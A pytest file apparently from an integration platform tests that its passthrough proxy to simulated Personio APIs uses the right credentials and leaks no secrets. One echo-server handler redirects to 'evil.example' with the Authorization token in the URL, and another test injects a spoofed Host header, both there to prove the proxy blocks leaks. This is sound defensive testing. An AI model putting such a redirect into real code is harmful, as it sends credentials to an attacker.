"""Callers' own requests: through both kinds of credentials to all five APIs, and nowhere else, telling no secret."""

import base64
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import msgspec
import pytest
from litestar.testing import TestClient

from atsume import clock
from atsume.actions.passthrough import Passthrough
from atsume.api.app import create_app
from atsume.api.deps import Deps
from atsume.egress import Egress
from atsume.model.environment import changed
from personio_simulator.options import Options
from tests.connectors.test_forwarding import HOSTILE_HEADERS, HOSTILE_PATHS
from tests.end_to_end.world import Company, Mirror

OPTIONS = Options(jobs=4, applications=6, seed=3, knobs={"rate_limits": "report", "beta": "required"})


class Reach:
    """A client of one integration's passthrough."""

    def __init__(self, mirror: Mirror, client: TestClient[Any]) -> None:
        self.mirror, self._client = mirror, client

    def post(self, api: str, body: Any, tool: str = "personio") -> Any:
        """Ask; return the whole answer."""
        headers = {"Authorization": f"Bearer {self.mirror.api_key}", "X-Integration-Id": self.mirror.integration.id}
        return self._client.post(f"/v1/passthrough/{tool}/{api}", json=body, headers=headers)

    def send(self, api: str, path: str, method: str = "GET", **more: Any) -> tuple[dict[str, Any], list[str]]:
        """Ask for what must succeed; return data and warnings."""
        answer = self.post(api, {"method": method, "path": path} | more)
        assert answer.status_code == 200, answer.text
        told = answer.json()
        return told["data"], [one["message"] for one in told["warnings"]]


@contextmanager
def reaching(mirror: Mirror, **settings: Any) -> Iterator[Reach]:
    """Serve a mirror whose environment allows passthrough unless told otherwise."""
    store = mirror.server.store
    environment = store.environment(mirror.integration.environment_id)
    assert environment is not None
    store.update_environment_settings(environment.id, changed(environment.settings, {"passthrough": True} | settings))
    server = mirror.server
    through = Passthrough(server.executor, Egress(allow_private=True))
    deps = Deps(
        store=store,
        config=server.config,
        connectors=server.connectors,
        now=clock.now,
        wake=lambda: None,
        passthrough=through,
    )
    with TestClient(create_app(deps)) as client:
        yield Reach(mirror, client)
    through.close()


@pytest.fixture(scope="module")
def reach(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Reach]:
    """One integration of a simulated company."""
    folder = tmp_path_factory.mktemp("passthrough")
    with (
        Company(OPTIONS) as company,
        Mirror(company, f"sqlite:///{folder}/atsume.db", folder) as mirror,
        reaching(mirror) as reach,
    ):
        yield reach


@pytest.mark.parametrize(
    ("api", "path", "found"),
    [
        ("jobboard", "/xml?language=en", lambda d: "workzag-jobs" in d),
        ("personnel", "/company/employees", lambda d: d["data"][0]["type"] == "Employee"),
        ("personnelv2", "/persons?limit=1", lambda d: len(d["_data"]) == 1),
        ("recruitingV2", "/jobs", lambda d: len(d["_data"]) == 4),
        ("recruitingV2", "jobs?limit=2", lambda d: len(d["_data"]) == 2),
    ],
)
def test_the_five_apis(reach: Reach, api: str, path: str, found: Any) -> None:
    """Each with its own credentials; the `Beta` header is sent where it is needed."""
    data, warnings = reach.send(api, path)
    assert (data["status"], warnings) == (200, [])
    assert found(data["data"])
    assert data["url"].startswith(reach.mirror.company.url)


def test_a_write_through_v1_recruiting(reach: Reach) -> None:
    """JSON goes out as JSON; what Personio refuses is still an answer, with its own status and body."""
    data, _ = reach.send("recruiting", "/applications", "POST", data={"first_name": "x"})
    assert data["status"] == 400
    assert "reason" in str(data["data"])
    job = next(j["id"] for j in reach.mirror.company.truth()["jobs"] if j.get("published", True))
    body = {"first_name": "Ada", "last_name": "Lang", "email": "ada@example.org", "job_position_id": int(job)}
    data, _ = reach.send("recruiting", "/applications", "POST", data=body)
    assert data["status"] in (201, 400)  # 400: a job that is not published


def test_a_form_with_files(reach: Reach) -> None:
    """Text, base64 and fetched files make one multipart body, as Personio takes it."""
    pdf = b"%PDF-1.4 small"
    with serving(lambda _: (200, {"Content-Type": "application/pdf"}, pdf)) as (url, _):
        for value in (
            {"name": 'a"b.pdf', "content_type": "application/pdf", "data": base64.b64encode(pdf).decode()},
            {"name": "c.pdf", "data_url": f"{url}/c.pdf"},
        ):
            data, _ = reach.send(
                "recruiting", "/applications/documents", "POST", multipart_form_data=[{"name": "file", "value": value}]
            )
            assert (data["status"], data["data"]["size"], data["data"]["mimetype"]) == (
                200,
                len(pdf),
                "application/pdf",
            )


SECRETS = {"company_id": "77", "recruiting_token": "rt-secret/1", "client_id": "papi-id-9", "client_secret": "papi-s9"}
TOKENS = {"/v2/auth/token": "v2-token-secret", "/v1/auth": "v1-token-secret"}


class Echo:
    """Stands where Personio should be: gives tokens, and says back everything it is told."""

    label = "acme"

    def __init__(self, url: str) -> None:
        self.url, self.facts = url, SECRETS


def _echoed(one: dict[str, Any]) -> tuple[int, dict[str, str], bytes]:
    path = one["path"].partition("?")[0]
    if path in TOKENS:
        token = TOKENS[path]
        told = {"access_token": token, "expires_in": 900} if "v2" in path else {"data": {"token": token}}
        return 200, {"Content-Type": "application/json"}, msgspec.json.encode(told)
    if path.endswith("/away"):
        return 302, {"Location": f"http://evil.example/?t={one['headers'].get('Authorization')}"}, b""
    if path.endswith("/bytes"):
        return 200, {"Content-Type": "application/octet-stream"}, b"\xff\x00"
    told = {"headers": one["headers"], "path": one["path"], "body": one["body"].decode("latin-1")}
    headers = {"Content-Type": "application/json", "Set-Cookie": "a=b", "X-Echo": str(one["headers"])}
    return 418, headers, msgspec.json.encode(told)


@pytest.fixture(scope="module")
def echo(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[Reach, list[Any]]]:
    """One integration whose tool says everything back, and what it was asked."""
    folder = tmp_path_factory.mktemp("echo")
    with (
        serving(_echoed) as (url, asked),
        Mirror(Echo(url), f"sqlite:///{folder}/atsume.db", folder) as mirror,  # pyright: ignore[reportArgumentType]
        reaching(mirror) as reach,
    ):
        yield reach, asked


def test_bodies_parameters_and_bytes(echo: tuple[Reach, list[Any]]) -> None:
    """Parameters are added to the path's, text goes as it is, and bytes come back as base64 when asked, or needed."""
    reach, asked = echo
    data, _ = reach.send("recruiting", "/x?a=1", "PUT", params={"b": "2 3"}, data="plain", headers={"X-Mine": "yes"})
    assert (data["status"], data["data"]["path"], data["data"]["body"]) == (418, "/v1/recruiting/x?a=1&b=2+3", "plain")
    assert asked[-1]["headers"]["X-Mine"] == "yes"
    assert asked[-1]["headers"]["Content-Type"] == "text/plain; charset=utf-8"
    reach.send("recruiting", "/x", "PATCH", data="<a/>", headers={"content-type": "text/xml"})
    assert asked[-1]["headers"]["content-type"] == "text/xml"
    reach.send("recruiting", "/x", "POST", data=[1, {"a": None}])
    assert (asked[-1]["body"], asked[-1]["headers"]["Content-Type"]) == (b'[1,{"a":null}]', "application/json")
    data, warnings = reach.send("recruiting", "/bytes")
    assert (data["data"], len(warnings)) == ("/wA=", 1)
    data, warnings = reach.send("recruiting", "/bytes", response_as_base64=True)
    assert (data["data"], warnings) == ("/wA=", [])


@pytest.mark.parametrize("path", HOSTILE_PATHS)
def test_no_request_leaves_the_base(echo: tuple[Reach, list[Any]], path: str) -> None:
    """A hostile path is refused with a sentence and a PLATFORM code; nothing at all is sent."""
    reach, asked = echo
    before = len(asked)
    for api in ("recruiting", "jobboard", "personnelv2"):
        answer = reach.post(api, {"method": "GET", "path": path})
        assert (answer.status_code, answer.json()["error"]["code"]) == (400, "PLATFORM.INPUT_INVALID")
    assert len(asked) == before


@pytest.mark.parametrize("headers", HOSTILE_HEADERS)
def test_no_header_is_smuggled(echo: tuple[Reach, list[Any]], headers: dict[str, str]) -> None:
    """Nothing is sent."""
    reach, asked = echo
    before = len(asked)
    answer = reach.post("recruiting", {"method": "GET", "path": "/x", "headers": headers})
    assert (answer.status_code, answer.json()["error"]["code"]) == (400, "PLATFORM.INPUT_INVALID")
    assert len(asked) == before


@pytest.mark.parametrize("api", ["personnel", "personnelv2", "recruiting", "recruitingV2"])
def test_no_credential_comes_back(echo: tuple[Reach, list[Any]], api: str) -> None:
    """Not even from a tool that says back all it is told, in headers, body or the address of a redirect."""
    reach, asked = echo
    mine = {"Authorization": "Bearer mine", "Host": "evil.example", "X-Company-ID": "1", "Cookie": "x=y"}
    for path in ("/x", "/away"):
        data, warnings = reach.send(api, path, headers=mine)
        assert data["status"] in (418, 302)
        assert "authorization, cookie, host, x-company-id" in warnings[0]
        told = str(data)
        for secret in ("rt-secret", "papi-s9", "papi-id-9", *TOKENS.values(), "a=b"):
            assert secret not in told
    sent = asked[-1]["headers"]
    assert sent["Authorization"] not in ("Bearer mine", None)
    assert "Cookie" not in sent
    assert sent["Host"] != "evil.example"


@pytest.mark.parametrize(
    ("api", "path"),
    [
        ("personnelv2", "/auth/token"),
        ("personnelv2", "/AUTH/revoke"),
        ("personnel", "/auth"),
        ("personnel", "/auth;a/x"),
    ],
)
def test_tokens_are_the_servers_business(echo: tuple[Reach, list[Any]], api: str, path: str) -> None:
    """Nobody makes or revokes them through us."""
    reach, asked = echo
    before = len(asked)
    answer = reach.post(api, {"method": "POST", "path": path, "data": {"token": "x"}})
    assert answer.status_code == 400
    assert len(asked) == before


def test_it_is_written_down_without_what_is_personal(echo: tuple[Reach, list[Any]]) -> None:
    """Method, path and status; no values of the query, no bodies, no secrets."""
    reach, _ = echo
    reach.send("recruiting", "/bytes?email=ada@example.org", "POST", data={"who": "Ada"})
    with reach.mirror.server.store.database.looking() as connection:
        kept = [row[0] for row in connection.exec_driver_sql("SELECT content FROM exchanges")]
    (mine,) = [one for one in kept if "/v1/recruiting/bytes" in one and "email" in one]
    assert '"direction":"out"' in mine
    assert "Passthrough to personio/recruiting" in mine
    assert not any(word in "".join(kept) for word in ("ada@", "Ada", "rt-secret", "papi-s9", *TOKENS.values()))


def test_what_cannot_be(tmp_path: Path) -> None:
    """Off unless allowed, and how to allow it; unknown tools and APIs; a tool that is not there. Codes are null or
    PLATFORM's: the SDKs know no others here.
    """
    with serving(_echoed) as (url, asked):
        mirror = Mirror(Echo(url), f"sqlite:///{tmp_path}/atsume.db", tmp_path)  # pyright: ignore[reportArgumentType]
    with mirror, reaching(mirror, passthrough=False) as reach:
        answer = reach.post("recruiting", {"method": "GET", "path": "/x"})
        assert (answer.status_code, answer.json()["error"]["code"]) == (403, None)
        assert "passthrough=true" in answer.json()["error"]["message"]
    assert asked == []
    with reaching(mirror) as reach:
        for api, tool, body, code in (
            ("nope", "personio", {"method": "GET", "path": "/x"}, "PLATFORM.INPUT_INVALID"),
            ("recruiting", "other", {"method": "GET", "path": "/x"}, "PLATFORM.INPUT_INVALID"),
            ("recruiting", "personio", {"method": "TRACE", "path": "/x"}, "PLATFORM.INPUT_INVALID"),
            ("recruiting", "personio", {"path": "/x"}, "PLATFORM.INPUT_INVALID"),
            ("jobboard", "personio", {"method": "GET", "path": "/xml", "api_options": {"company": "evil"}},
             "PLATFORM.INPUT_INVALID"),
            ("recruiting", "personio", {"method": "GET", "path": "/x"}, None),
        ):  # fmt: skip
            answer = reach.post(api, body, tool)
            assert (answer.status_code >= 400, answer.json()["error"]["code"]) == (True, code), body
            assert set(answer.json()["error"]) == {"code", "title", "message", "log_url"}
        mirror.server.store.close()


@contextmanager
def serving(answer: Any) -> Iterator[tuple[str, list[Any]]]:
    """A server that answers as told and keeps what it was asked."""
    asked: list[Any] = []

    class Handler(BaseHTTPRequestHandler):
        def _any(self) -> None:
            body = self.rfile.read(int(self.headers.get("content-length") or 0))
            one = {"method": self.command, "path": self.path, "headers": dict(self.headers), "body": body}
            asked.append(one)
            status, headers, content = answer(one)
            self.send_response(status)
            for name, value in {**headers, "Content-Length": str(len(content))}.items():
                self.send_header(name, value)
            self.end_headers()
            self.wfile.write(content)

        do_GET = do_POST = do_PUT = do_PATCH = do_DELETE = _any

        def log_message(self, format: str, *args: Any) -> None:
            """Say nothing."""

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}", asked
    server.shutdown()
    server.server_close()
